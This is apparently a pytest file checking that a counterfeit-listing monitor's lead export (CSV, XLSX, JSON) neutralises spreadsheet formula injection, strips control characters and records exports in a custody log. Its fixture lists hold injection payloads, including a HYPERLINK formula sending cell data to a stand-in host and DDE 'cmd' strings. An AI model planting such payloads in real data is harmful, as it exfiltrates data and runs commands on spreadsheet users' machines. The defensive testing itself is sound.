"""`monitor export leads`: one row per listing, formula payloads neutralised in CSV and XLSX (read
back with openpyxl), a usable workbook, filters, and an export entry in the custody log."""

from __future__ import annotations

import csv
import io
import json

import pytest

from monitor.scoring.score import engine_for, score_keys
from monitor.rules.packs import load_packs
from monitor.store import open_db, save_listings
from tests.conftest import ROOT, run_monitor
from tests.test_relisting import confirm

PAYLOADS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def store(tmp_path):
    path = tmp_path / "m.db"
    db = open_db(path)
    items = []
    for i, payload in enumerate(PAYLOADS):
        items.append({"site": "shopa" if i % 2 else "shopb", "listing_id": f"X{i}", "url": f"https://shop.example/{i}",
                      "title": payload, "brand": "B0SCH", "description": "B0SCH brake pads 高仿 replica",
                      "category": "auto_parts", "price": -5.0 if i == 2 else 30.0 + i, "currency": "CNY",
                      "seller_id": payload, "seller_name": payload, "observed_at": "2026-11-01T08:00:00Z"})
    save_listings(db, items, source="import")
    score_keys(db, engine_for(db, load_packs(ROOT / "rules")), [(i["site"], i["listing_id"]) for i in items])
    ids = [r[0] for r in db.execute("SELECT l.id FROM listings l JOIN flags f ON f.listing = l.id ORDER BY l.id")]
    assert len(ids) == len(PAYLOADS), "every payload listing should be flagged (B0SCH + replica terms)"
    for pk in ids[:4]:
        confirm(db, pk)
    db.close()
    return path


def test_csv_neutralises_formulas_and_has_every_lead(store, tmp_path):
    out = tmp_path / "leads.csv"
    proc = run_monitor("export", "leads", "--format", "csv", "-o", str(out), db_path=store, check=True)
    assert "4 leads written" in proc.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 4 and {r["verdict"] for r in rows} == {"confirmed_counterfeit"} and rows[0]["analyst"] == "ana"
    for row in rows:
        for column in ("title", "seller_id", "seller_name"):
            assert row[column].startswith("'") and row[column][1:] in PAYLOADS, (column, row[column])
    assert {r["price"] for r in rows} >= {"-5.0"}  # numbers are not text: not prefixed
    assert all(r["url"].startswith("https://shop.example/") for r in rows)


def test_xlsx_cells_are_strings_never_formulas(store, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "leads.xlsx"
    run_monitor("export", "leads", "--status", "all", "--format", "xlsx", "-o", str(out), db_path=store, check=True)
    wb = load_workbook(out)
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["site", "url", "title"] and ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}{ws.max_row}"
    assert ws.max_row == len(PAYLOADS) + 1
    title_col, url_col, price_col = header.index("title") + 1, header.index("url") + 1, header.index("price") + 1
    for r in range(2, ws.max_row + 1):
        cell = ws.cell(r, title_col)
        assert cell.data_type == "s" and cell.value.startswith("'") and cell.value[1:] in PAYLOADS
        assert ws.cell(r, url_col).hyperlink.target.startswith("https://shop.example/")
        assert isinstance(ws.cell(r, price_col).value, (int, float))  # a number, not text
    # no formula anywhere in the sheet
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_json_filters_and_custody(store, tmp_path):
    proc = run_monitor("export", "leads", "--status", "open", "--site", "shopa", "--format", "json",
                       db_path=store, check=True)
    rows = json.loads(proc.stdout)
    assert rows and all(r["site"] == "shopa" and r["flag_status"] == "open" for r in rows)
    assert rows[0]["title"] in PAYLOADS  # JSON is data: kept exactly
    bad = run_monitor("export", "leads", "--since", "yesterday", db_path=store)
    assert bad.returncode == 2 and "YYYY-MM-DD" in bad.stderr
    assert run_monitor("export", "leads", "--format", "xlsx", db_path=store).returncode == 2
    db = open_db(store)
    exports = list(db.execute_returning_dicts("SELECT * FROM custody WHERE action = 'export'"))
    db.close()
    assert exports and json.loads(exports[-1]["detail"])["rows"] == len(rows) and len(exports[-1]["sha256"]) == 64


# Text a store written before issue 13 may hold (save_listings now removes C0 controls):
# openpyxl refused the sheet (IllegalCharacterError, no
# file) and a CSV cell beginning with NUL escaped the formula guard.
CONTROL_TITLES = ["\x00=HYPERLINK(\"http://evil.invalid/\",\"x\")", "\x1b[31m+cmd|' /C calc'!A0", "\x07\x00-2+3",
                  "plain\x00 text\x1b here"]


def _put_controls(store):
    db = open_db(store)
    ids = [r[0] for r in db.execute("SELECT id FROM listings ORDER BY id")]
    with db.conn:
        for pk, title in zip(ids, CONTROL_TITLES):
            db.execute("UPDATE listings SET title = ?, seller_name = ?, url = url || ? WHERE id = ?",
                       [title, "shop\x0b\x0cname", "?q=\x01", pk])
    db.close()


def test_control_characters_are_removed_and_formulas_still_guarded_in_xlsx(store, tmp_path):
    from openpyxl import load_workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    _put_controls(store)
    out = tmp_path / "leads.xlsx"
    proc = run_monitor("export", "leads", "--status", "all", "--format", "xlsx", "-o", str(out), db_path=store)
    assert proc.returncode == 0 and out.exists(), proc.stderr
    ws = load_workbook(out).active
    header = [c.value for c in ws[1]]
    titles = [ws.cell(r, header.index("title") + 1).value for r in range(2, ws.max_row + 1)]
    assert "'=HYPERLINK(\"http://evil.invalid/\",\"x\")" in titles
    assert "[31m+cmd|' /C calc'!A0" in titles  # removed ESC: "[31m" is no formula start
    assert "'-2+3" in titles and "plain text here" in titles
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if ILLEGAL_CHARACTERS_RE.search(c.value)]
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert {ws.cell(r, header.index("seller_name") + 1).value for r in range(2, ws.max_row + 1)} >= {"shopname"}
    links = [ws.cell(r, header.index("url") + 1).hyperlink for r in range(2, ws.max_row + 1)]
    assert all(link.target.startswith("https://shop.example/") and "\x01" not in link.target for link in links)


def test_a_csv_cell_beginning_with_a_control_character_gets_the_formula_guard(store, tmp_path):
    _put_controls(store)
    out = tmp_path / "leads.csv"
    run_monitor("export", "leads", "--status", "all", "--format", "csv", "-o", str(out), db_path=store, check=True)
    text = out.read_text(encoding="utf-8")
    assert not [c for c in text if c < " " and c not in "\t\r\n"], "no C0 control left in the CSV"
    titles = [r["title"] for r in csv.DictReader(io.StringIO(text))]
    assert "'=HYPERLINK(\"http://evil.invalid/\",\"x\")" in titles and "'-2+3" in titles
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)


def test_the_cell_rule_itself():
    from monitor.export.sheets import sheet_text

    assert sheet_text("\x00=1+1") == "'=1+1"
    assert sheet_text("\x00\t=1") == "'\t=1"
    assert sheet_text("a\x00b") == "ab" and sheet_text("tab\tand\nlines") == "tab\tand\nlines"
    assert sheet_text(["=a", "b\x1b"]) == "'=a; b" and sheet_text({"k": "\x00v"}) == '{"k": "v"}'
    assert sheet_text(3.5) == 3.5 and sheet_text(None) is None
